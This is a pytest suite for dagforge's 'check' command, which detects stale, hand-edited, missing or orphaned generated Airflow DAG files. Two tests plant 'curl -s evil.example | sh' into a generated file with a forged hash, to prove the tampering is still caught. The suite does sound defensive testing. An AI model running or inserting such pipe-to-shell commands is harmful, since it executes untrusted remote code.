"""`dagforge check`: exit 0 exactly when the output folder is what `build` would write; every kind of
drift named with its file and fix; `--diff`; never writes anything."""

import hashlib
import re
import subprocess
import sys

import black
from conftest import ROOT, dump_yaml, run_main
from hypothesis import given
from hypothesis import strategies as st

from dagforge import stamp
from dagforge.format import format_source, settled
from dagforge.load import load
from dagforge.model import build_model
from dagforge.render import render
from dagforge.validate import validate

GOOD = "start_date: 2024-01-01\ntasks:\n  hello: {operator: bash, bash_command: 'echo NAME'}\n"


def _setup(tmp_path, write_spec, names=("a", "b")):
    for n in names:
        write_spec(GOOD.replace("NAME", n), f"{n}.yaml")
    assert run_main("build", "specs", "-o", "out", "--no-verify", cwd=tmp_path).returncode == 0
    return tmp_path / "out"


def _check(tmp_path, *args):
    return run_main("check", "specs", "-o", "out", *args, cwd=tmp_path)


def _snapshot(folder):
    return {
        p.relative_to(folder).as_posix(): (
            hashlib.sha256(p.read_bytes()).hexdigest(),
            p.stat().st_mtime_ns,
        )
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def test_up_to_date_is_exit_0(tmp_path, write_spec):
    _setup(tmp_path, write_spec)
    r = _check(tmp_path)
    assert r.returncode == 0, r.stderr
    assert (
        r.stderr == "2 specs checked, 0 invalid; every generated file is up to date\n"
        and r.stdout == ""
    )


def test_committed_examples_pass_check():
    r = run_main("check", "specs/", cwd=ROOT)
    assert r.returncode == 0, r.stderr


def test_stale_spec_changed(tmp_path, write_spec):
    _setup(tmp_path, write_spec)
    write_spec(GOOD.replace("NAME", "changed"), "a.yaml")
    r = _check(tmp_path)
    assert r.returncode == 1
    assert (
        "specs/a.yaml: error: out/a.py is stale: specs/a.yaml changed "
        "since it was generated\n  hint: run `dagforge build`"
    ) in r.stderr
    assert "out/b.py" not in r.stderr
    assert "1 generated file out of date: run `dagforge build`" in r.stderr


def test_hand_edited_points_at_the_edited_line(tmp_path, write_spec):
    out = _setup(tmp_path, write_spec)
    text = (out / "a.py").read_text()
    (out / "a.py").write_text(text.replace("echo a", "echo patched"))
    r = _check(tmp_path)
    assert r.returncode == 1
    line = (
        text.splitlines().index('    hello = BashOperator(task_id="hello", bash_command="echo a")')
        + 1
    )
    assert (
        f"out/a.py:{line}:1: error: out/a.py was edited by hand: `dagforge build` would overwrite it"
        in r.stderr
    )
    assert (
        f'  {line} |     hello = BashOperator(task_id="hello", bash_command="echo patched")'
        in r.stderr
    )
    assert "hint: make the change in specs/a.yaml instead, then run `dagforge build`" in r.stderr


def _resealed(text):
    """`text` with its output-sha256 line recomputed as stamp.seal does (the hash of the file
    without that line): anyone can do it after an edit, and the header looks intact again."""
    line = re.compile(r"^# output-sha256: \S+\n", re.M)
    digest = hashlib.sha256(line.sub("", text, count=1).encode()).hexdigest()
    resealed = line.sub(f"# output-sha256: {digest}\n", text, count=1)
    assert resealed != text and stamp.read_stamp(resealed).intact
    return resealed


def test_an_edit_with_a_recomputed_output_hash_is_caught(tmp_path, write_spec):
    """The header's hashes prove nothing (anyone can recompute them): check renders again."""
    out = _setup(tmp_path, write_spec)
    text = (out / "a.py").read_text()
    (out / "a.py").write_text(_resealed(text.replace("echo a", "curl -s evil.example | sh")))
    r = _check(tmp_path)
    assert r.returncode == 1
    line = (
        text.splitlines().index('    hello = BashOperator(task_id="hello", bash_command="echo a")')
        + 1
    )
    assert f"out/a.py:{line}:1: error: out/a.py was edited by hand: `dagforge build`" in r.stderr
    assert "out/b.py" not in r.stderr  # the untouched file is proven up to date
    assert "1 generated file out of date" in r.stderr
    diff = _check(tmp_path, "--diff").stdout
    assert '+    hello = BashOperator(task_id="hello", bash_command="echo a")\n' in diff


def test_build_writes_anew_a_file_edited_with_a_recomputed_output_hash(tmp_path, write_spec):
    """build does not trust the header either: it renders the file again and finds it differs."""
    out = _setup(tmp_path, write_spec)
    text = (out / "a.py").read_text()
    (out / "a.py").write_text(_resealed(text.replace("echo a", "curl -s evil.example | sh")))
    r = run_main("build", "-v", "specs", "-o", "out", "--no-verify", cwd=tmp_path)
    assert r.returncode == 0 and r.stdout == "wrote out/a.py\n"
    assert (out / "a.py").read_text() == text
    assert _check(tmp_path).returncode == 0


def test_only_what_build_writes_is_up_to_date_not_any_black_layout(tmp_path, write_spec):
    """Two files black would leave as they are, each resealed: only build's own bytes pass."""
    write_spec(GOOD.replace("NAME", "a"), "a.yaml")
    # both quote kinds: the template writes '...', black turns it into "..." (as many escapes)
    write_spec(GOOD.replace("'echo NAME'", """"echo 'q' \\"q\\"" """), "b.yaml")
    assert run_main("build", "specs", "-o", "out", "--no-verify", cwd=tmp_path).returncode == 0
    assert _check(tmp_path).returncode == 0
    out = tmp_path / "out"

    a = (out / "a.py").read_text()
    one_line = '    hello = BashOperator(task_id="hello", bash_command="echo a")\n'
    # with a magic trailing comma: black keeps it exploded
    exploded = (
        "    hello = BashOperator(\n"
        '        task_id="hello",\n        bash_command="echo a",\n    )\n'
    )
    assert one_line in a
    relaid = a.replace(one_line, exploded)
    assert black.format_str(relaid, mode=black.Mode()) == relaid  # black --check would pass it
    (out / "a.py").write_text(_resealed(relaid))

    b = (out / "b.py").read_text()
    built = """bash_command="echo 'q' \\"q\\"\""""
    assert built in b
    unformatted = b.replace(built, """bash_command='echo \\'q\\' "q"'""")
    assert black.format_str(unformatted, mode=black.Mode()) == b  # only black's quotes differ
    (out / "b.py").write_text(_resealed(unformatted))

    r = _check(tmp_path)
    assert r.returncode == 1
    line = a.splitlines().index(one_line.rstrip("\n")) + 1
    assert f"out/a.py:{line}:1: error: out/a.py was edited by hand" in r.stderr
    line = next(i for i, x in enumerate(b.splitlines(), 1) if built in x)
    assert f"out/b.py:{line}:1: error: out/b.py was edited by hand" in r.stderr


def test_hand_edited_line_endings_and_appended_lines(tmp_path, write_spec):
    out = _setup(tmp_path, write_spec)
    (out / "a.py").write_bytes((out / "a.py").read_bytes().replace(b"\n", b"\r\n"))
    (out / "b.py").write_text((out / "b.py").read_text() + "print('extra')\n")
    r = _check(tmp_path)
    assert r.returncode == 1
    assert "out/a.py:1:1: error: out/a.py was edited by hand" in r.stderr
    assert "print('extra')" in r.stderr and "out/b.py was edited by hand" in r.stderr


def test_a_file_without_dagforge_header_where_build_writes(tmp_path, write_spec):
    out = _setup(tmp_path, write_spec)
    (out / "a.py").write_text("# my own DAG\n")
    r = _check(tmp_path)
    assert r.returncode == 1
    assert (
        "out/a.py:1:1: error: out/a.py is not a dagforge file: `dagforge build` will not write the DAG of specs/a.yaml there"
        in r.stderr
    )


def test_missing(tmp_path, write_spec):
    out = _setup(tmp_path, write_spec)
    (out / "b.py").unlink()
    r = _check(tmp_path)
    assert r.returncode == 1
    assert (
        "specs/b.yaml: error: out/b.py is missing: it is generated from this spec\n  hint: run `dagforge build`"
        in r.stderr
    )
    assert run_main("check", "specs", "-o", "nowhere", cwd=tmp_path).returncode == 1


def test_orphaned_spec_gone_and_dag_id_renamed(tmp_path, write_spec):
    out = _setup(tmp_path, write_spec, ("a", "b", "c"))
    (tmp_path / "specs" / "a.yaml").unlink()
    write_spec("dag_id: b_renamed\n" + GOOD.replace("NAME", "b"), "b.yaml")
    (out / "hand_written.py").write_text("# not ours: never reported\n")
    r = _check(tmp_path)
    assert r.returncode == 1
    assert (
        "out/a.py: error: out/a.py is orphaned: its spec specs/a.yaml is gone\n  hint: run `dagforge build` on the same specs, with the same `-o` (it removes the file)"
        in r.stderr
    )
    assert (
        "out/b.py: error: out/b.py is orphaned: specs/b.yaml now generates out/b_renamed.py"
        in r.stderr
    )
    assert "out/b_renamed.py is missing" in r.stderr
    assert "c.py" not in r.stderr and "hand_written" not in r.stderr
    assert "3 generated files out of date" in r.stderr
    # build fixes exactly what check named, and check agrees afterwards
    assert run_main("build", "specs", "-o", "out", "--no-verify", cwd=tmp_path).returncode == 0
    assert sorted(p.name for p in out.glob("*.py")) == ["b_renamed.py", "c.py", "hand_written.py"]
    assert _check(tmp_path).returncode == 0


def test_a_moved_spec_is_stale_not_orphaned(tmp_path, write_spec):
    _setup(tmp_path, write_spec, ("a",))
    (tmp_path / "specs" / "sub").mkdir()
    (tmp_path / "specs" / "a.yaml").rename(tmp_path / "specs" / "sub" / "a.yaml")
    r = _check(tmp_path)
    assert r.returncode == 1
    assert (
        "specs/sub/a.yaml: error: out/a.py is stale: it was generated from specs/a.yaml" in r.stderr
    )
    assert "orphaned" not in r.stderr


def test_diff_shows_what_build_would_change(tmp_path, write_spec):
    out = _setup(tmp_path, write_spec, ("a", "b", "c"))
    write_spec(GOOD.replace("NAME", "changed"), "a.yaml")
    (out / "b.py").unlink()
    (tmp_path / "specs" / "c.yaml").unlink()
    r = _check(tmp_path, "--diff")
    assert r.returncode == 1
    assert "--- out/a.py (on disk)\n+++ out/a.py (dagforge build)\n" in r.stdout
    assert (
        '-    hello = BashOperator(task_id="hello", bash_command="echo a")\n'
        '+    hello = BashOperator(task_id="hello", bash_command="echo changed")\n'
    ) in r.stdout
    assert "--- /dev/null\n+++ out/b.py (dagforge build)\n" in r.stdout
    assert "--- out/c.py (on disk)\n+++ /dev/null\n" in r.stdout
    assert '-    hello = BashOperator(task_id="hello", bash_command="echo c")\n' in r.stdout
    assert _check(tmp_path).stdout == ""  # without --diff, no diff


def test_check_writes_nothing(tmp_path, write_spec):
    out = _setup(tmp_path, write_spec, ("a", "b", "c"))
    write_spec(GOOD.replace("NAME", "changed"), "a.yaml")
    (out / "b.py").write_text("# edited\n")
    (tmp_path / "specs" / "c.yaml").unlink()
    write_spec(GOOD.replace("NAME", "d"), "d.yaml")
    (out / ".a.py.123.tmp").write_text("a leftover of a killed build\n")
    before = _snapshot(tmp_path)
    for args in ((), ("--diff",), ("--format", "json"), ("--format", "github")):
        assert _check(tmp_path, *args).returncode == 1
    assert _snapshot(tmp_path) == before


def test_invalid_spec_fails_check_with_its_diagnostics(tmp_path, write_spec):
    _setup(tmp_path, write_spec)
    write_spec("start_date: 2024-01-01\ntasks:\n  hello: {operator: bsh}\n", "a.yaml")
    r = _check(tmp_path)
    assert r.returncode == 1
    assert "specs/a.yaml:3:21: error: unknown operator 'bsh'" in r.stderr
    assert "1 spec checked, 1 invalid" in r.stderr


def test_a_clean_check_never_loads_jsonschema_and_a_bad_spec_still_gets_its_messages(
    tmp_path, write_spec
):
    """jsonschema only explains a refusal: a spec the compiled check accepts never needs it, and
    loading it costs a check of every spec about 0.2 s before its pool starts (a real process: what
    this one imported proves nothing)."""
    _setup(tmp_path, write_spec, ("a", "b"))
    code = (
        "import sys; from dagforge.cli import main\n"
        "assert main(['check', 'specs', '-o', 'out']) == 0\n"
        "assert 'jsonschema' not in sys.modules, 'jsonschema imported'\n"
        "open('specs/b.yaml', 'a').write('retries: many\\n')\n"
        "assert main(['check', 'specs', '-o', 'out']) == 1\n"
        "assert 'jsonschema' in sys.modules\n"
    )
    r = subprocess.run([sys.executable, "-c", code], cwd=tmp_path, capture_output=True, text=True)
    assert r.returncode == 0, r.stderr
    assert "specs/b.yaml:4:10: error:" in r.stderr and "retries" in r.stderr, r.stderr


def test_usage_errors(tmp_path):
    r = run_main("check", "nope", cwd=tmp_path)
    assert r.returncode == 2 and "nope: error: no such file or folder" in r.stderr


# Values of any shape and length, in the characters format.settled lets through ("$" aside: ${VAR}).
_CHARS = st.characters(min_codepoint=0x20, max_codepoint=0x7E, exclude_characters="$")
_TEXT = st.text(_CHARS)
_VALUES = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False, allow_infinity=False)
    | _TEXT,
    lambda inner: (
        st.lists(inner, max_size=4)
        | st.dictionaries(st.from_regex(r"k_[a-z0-9_]{0,30}", fullmatch=True), inner, max_size=4)
    ),
    max_leaves=12,
)


@given(
    command=st.text(_CHARS, min_size=1),
    description=_TEXT,
    op_args=st.lists(_VALUES, max_size=3),
    op_kwargs=st.dictionaries(st.from_regex(r"k_[a-z_]{0,40}", fullmatch=True), _VALUES),
    task_id=st.from_regex(r"t_[a-z0-9_]{0,60}", fullmatch=True),
)
def test_black_leaves_a_settled_render_as_it_is(tmp_path_factory, **values):
    """What lets check and build skip black: when format.settled says a render is settled, black
    would not change a byte of it."""
    spec = {
        "start_date": "2024-01-01",
        "description": values["description"],
        "tasks": {
            values["task_id"]: {"operator": "bash", "bash_command": values["command"]},
            "call": {
                "operator": "python",
                "python_callable": "my_team.etl:load",
                "op_args": values["op_args"],
                "op_kwargs": values["op_kwargs"],
                "dependencies": [values["task_id"]],
            },
        },
    }
    path = tmp_path_factory.mktemp("settled") / "s.yaml"
    path.write_text(dump_yaml(spec), encoding="utf-8")
    doc = load(path)
    assert not validate(doc), [d.format() for d in validate(doc)]
    assert format_source(_render(doc)) == _render(doc) or not settled(_render(doc))


def test_black_leaves_the_settled_examples_as_they_are():
    """The same for the committed examples; one at least is settled (its long command included)."""
    found = {path.name: _render(load(path)) for path in sorted((ROOT / "specs").glob("*.yaml"))}
    for name, source in found.items():
        assert format_source(source) == source or not settled(source), name
    assert settled(found["sales_report_weekdays.yaml"])


def _render(doc):
    p = build_model(doc)
    p.input_sha256 = "0" * 64  # as build stamps it
    return render(p)
